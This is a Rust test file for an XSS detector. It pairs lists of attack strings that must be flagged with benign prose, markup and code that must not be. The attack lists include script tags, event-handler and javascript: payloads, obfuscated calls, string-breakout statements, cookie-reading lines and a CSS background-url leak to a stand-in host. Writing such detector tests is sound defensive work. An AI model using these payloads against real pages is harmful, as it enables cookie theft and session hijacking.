use super::*;
use crate::samples;
use alloc::vec::Vec;

#[test]
fn no_text_is_passed_over_by_its_marks_that_runs() {
    for text in samples::texts() {
        let marks = Marks::of(&text);
        let gates = [
            (tag::may_have_tag(marks), tag::has_tag(&text)),
            (tag::may_have_attribute(marks), tag::has_attribute(&text)),
            (script::may_have_scheme(marks), script::has_scheme(&text)),
            (script::may_be_script(marks), script::is_script(&text)),
        ];
        for (index, (may_be, is)) in gates.into_iter().enumerate() {
            assert!(may_be || !is, "{index} {}", text.escape_ascii());
            assert!(may_be_injection(marks) || !may_be, "{}", text.escape_ascii());
        }
    }
}

#[test]
fn what_a_browser_would_run_is_an_injection() {
    let attacks = [
        "<script>alert(1)</script>",
        "<ScRiPt src=//x>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "\" onmouseover=\"alert(1)",
        "' onfocus=alert(1) autofocus='",
        "<a href=\"javascript:alert(1)\">",
        "<a href=java&#x09;script:alert(1)>",
        "javascript:alert(document.cookie)",
        "jav\tascript:alert(1)",
        "<iframe src=x>",
        "<body onload=x()>",
        "<object data=x>",
        "<meta http-equiv=refresh content=0>",
        "<div style=\"width:expression(alert(1))\">",
        "<style>@import 'http://x'</style>",
        "&lt;script&gt;alert(1)",
        "\\u003cscript\\u003ealert(1)",
        "<img src=\"a\"\"onerror=\"alert(1)\">",
        "';alert(1);//",
        "\"-alert(1)-\"",
        "document.cookie",
        "window['alert'](1)",
        "[].sort.call`${alert}1`",
        "alert`1`",
        "(alert)(1)",
        "data:text/html,<script>",
        "+ADw-script+AD4-alert(1)",
        "\u{bc}script\u{be}alert(1)\u{bc}/script\u{be}",
        "[][(![]+[])[+[]]+(![]+[])[!+[]]]",
        "<details open ontoggle=alert(1)>",
        "<x xlink:href=\"http://a\">",
        "<base href=//x>",
        "<form><button formaction=javascript:alert(1)>",
        "eval(atob('x'))",
        "<scr\0ipt>",
    ];
    let missed: Vec<&&str> = attacks.iter().filter(|text| !is_injection(text.as_bytes())).collect();
    assert_eq!(missed, Vec::<&&str>::new());
}

#[test]
fn prose_markup_and_code_are_no_injections() {
    let benign = [
        "a < b and c > d",
        "<3 you",
        "I <b>love</b> this <i>very</i> much",
        "<p>Hello <a href=\"https://example.com/?a=b\">link</a></p>",
        "<img src=\"/a.png\" alt=\"x\">",
        "List<Object> items = new ArrayList<>();",
        "Map<String, Set<Base>> x",
        "JavaScript: the good parts",
        "javascript: a language",
        "online = true",
        "once=1",
        "on time = money",
        "onward=5",
        "if (a < b) { return c; }",
        "the function print(x) shows it in the window of the document",
        "Use the alert(x) call when something in the page has failed",
        "https://example.com/a?b=c",
        "2:30 - 3:45",
        "x = [1, 2, 3]",
        "1\u{bc} cups to 2\u{be} cups",
        "f\u{fc}r alle",
        "query { user(id: 1) { name } }",
        "**bold** [link](https://example.com) `code`",
        "data:image/png;base64,iVBORw0KGgo=",
        "price: 5 <= 6",
        "a[i] = b[j] + c",
        "key=value; other=value",
        "let data = await response.json();",
        "function add(a, b) { return a + b; }",
        "I <3 JS & CSS",
        "<!-- a comment -->",
        "<strong>Note:</strong> see below",
        "style = modern, form = function",
        "![](image.png)",
        "- [ ] todo\n- [x] done",
        "/manual/document.cookie",
    ];
    let stopped: Vec<&&str> = benign.iter().filter(|text| is_injection(text.as_bytes())).collect();
    assert_eq!(stopped, Vec::<&&str>::new());
}

/// Reading each to the text's end would take minutes here.
#[test]
fn tags_that_begin_within_names_and_values_of_others_are_read_once() {
    for unit in ["&<a", "<a(", "<a/b=", "<a b=<"] {
        assert!(!tag::has_tag(unit.repeat(200_000).as_bytes()), "{unit}");
    }
}

#[test]
fn what_somebody_else_calls_runs_too() {
    let attacks = [
        "[1].find(alert)",
        "[alert].forEach(f=>f(1))",
        "'x'.replace(/x/,alert)",
        "alert.call(undefined,1)",
        "void alert(1)",
        "';onerror=alert;throw 1//",
        "throw onerror=alert,1",
        "'-open('//x')-'",
        "<div x-init=\"a; alert(1)\">",
        "a=alert,a(1)",
        "top[8680439..toString(30)](1)",
        "' in alert(1)//",
        "Function('x')()",
        "Reflect.construct(Function,['x'])()",
        "\" onpointerenter=x=name \"",
        "\" onfocus=\"name",
        "<style>input[a^='b']{background:url('https://x/a')}</style>",
        "\\00003cscript\\00003ealert(1)",
    ];
    let missed: Vec<&&str> = attacks.iter().filter(|t| !is_injection(t.as_bytes())).collect();
    assert_eq!(missed, Vec::<&&str>::new());
    let benign = [
        "see (alert) below",
        "status: [alert]",
        "buttons: [confirm, cancel]",
        "'-'",
        "a (prompt) and more",
        "on=alert level",
        "<div title=\"an alert (red)\">",
        "level=alert, then a call",
        "f = function(a) { b }",
        "a: function (x) {}",
        "say \"a\" onload=yes",
        "x.map(function)",
        "number.toString(30)",
        "list.map(parse)",
    ];
    let stopped: Vec<&&str> = benign.iter().filter(|t| is_injection(t.as_bytes())).collect();
    assert_eq!(stopped, Vec::<&&str>::new());
}

#[test]
fn a_statement_behind_the_end_of_a_string_runs_whatever_it_calls() {
    let attacks = [
        "x\";console.log(1)//",
        "'; import('./m') //",
        "`);$.get(x)//",
        "a\"]});go()//",
        "';location=name//",
        "\"; top.location = '//x' //",
        "';x=alert;x(1)//",
        "';let a=alert;a(1)//",
        "';a['b']=1//",
        "x'};location=name;{'",
        "';x=1;y='",
        "';location='//x",
        "';console.log`1`//",
        "\\';location=name//",
    ];
    let missed: Vec<&&str> = attacks.iter().filter(|t| !is_injection(t.as_bytes())).collect();
    assert_eq!(missed, Vec::<&&str>::new());
    let benign = [
        "let a = \"b\"; c(a) //",
        "it's; see (this)",
        "don't; 5 (five) //",
        "go() //",
        "'x'; // (none)",
        "say \"hi\"; https://a.example//",
        "it's; x=1",
        "name=\"x\";path=\"/\"",
        "a=''; b=1 //",
        "say 'hi'; location = Berlin",
        "';x==1//",
        "';' is what ends it",
        "\"a\";\"b=c\";\"d\"",
    ];
    let stopped: Vec<&&str> = benign.iter().filter(|t| is_injection(t.as_bytes())).collect();
    assert_eq!(stopped, Vec::<&&str>::new());
}

#[test]
fn attributes_that_are_cut_off_and_names_that_begin_with_a_colon_are_read_as_browsers_and_xml_do() {
    let attacks = [
        "  onanything= ",
        "\" onanything =",
        "<:script src=",
        "<:vmlframe src='x'>",
        "x<:iframe y = z",
    ];
    let missed: Vec<&&str> = attacks.iter().filter(|t| !is_injection(t.as_bytes())).collect();
    assert_eq!(missed, Vec::<&&str>::new());
    let benign = [
        "online=",
        "a online=",
        "  online=true",
        "  on=",
        " one= ",
        "onanything=",
        "[T <:Frame]",
        "type A <:Frame = B",
        "f[T<:Comment](x: T) = y",
        "<: script",
        "smile <:",
    ];
    let stopped: Vec<&&str> = benign.iter().filter(|t| is_injection(t.as_bytes())).collect();
    assert_eq!(stopped, Vec::<&&str>::new());
}

#[test]
fn the_way_to_a_page_of_its_own_and_style_sheets_of_its_own_run_nothing() {
    for text in [
        "window.location.href = '//a.example/';",
        "window.location = 'javascript:x'",
        "location.href = '/' + document.cookie",
        "@import url(//a.example/b.css);",
        "@import 'https://a.example/b.css'",
        "eval(x)",
        "alert()",
    ] {
        assert!(is_injection(text.as_bytes()), "{text}");
    }
    for text in [
        "window.location.href = '/login';",
        "document.location = \"/orders?page=2\"",
        "@import url('a.css');",
        "eval() is slow",
    ] {
        assert!(!is_injection(text.as_bytes()), "{text}");
    }
}

#[test]
fn code_that_calls_itself_back_and_ends_of_scripts_run_nothing_of_a_page() {
    for text in [
        "setTimeout(() => draw(), 1000);",
        "setInterval(function () { list.next('a') }, 50)",
        "setImmediate(async () => { await save(); });",
        "el.innerHTML = ''",
        "document.getElementById('list').innerHTML = \"\";",
        "total + 1);\n</script>",
        "<link rel=\"icon\" type=\"image/png\" href=\"/a.png\" />",
        "<meta http-equiv=\"refresh\" content=\"0;URL=../b/c.html\">",
    ] {
        assert!(!is_injection(text.as_bytes()), "{text}");
    }
    for text in [
        "setTimeout(f, 1)",
        "setTimeout('f()')",
        "setTimeout(() => alert(1))",
        "setTimeout(()=>{location=name})",
        "setTimeout(()=>import('//a.example'))",
        "setTimeout(() => top[x](1))",
        "setTimeout(() => f`x`)",
        "';setTimeout(()=>f())//",
        "\"-setTimeout(()=>f())-\"",
        "${setTimeout(()=>f())}",
        "document.body.innerHTML = 'gone'",
        "x.innerHTML = '<b>'",
        "x.innerHTML = name",
        "x=document.cookie;y.innerHTML=''",
        "</script><svg onload=x()>",
        "</script><b>",
        "</script x>",
        "<link rel=\"stylesheet\" href=\"/a.css\">",
        "<use rel=\"icon\" href=\"//a.example/a.svg#x\">",
    ] {
        assert!(is_injection(text.as_bytes()), "{text}");
    }
}
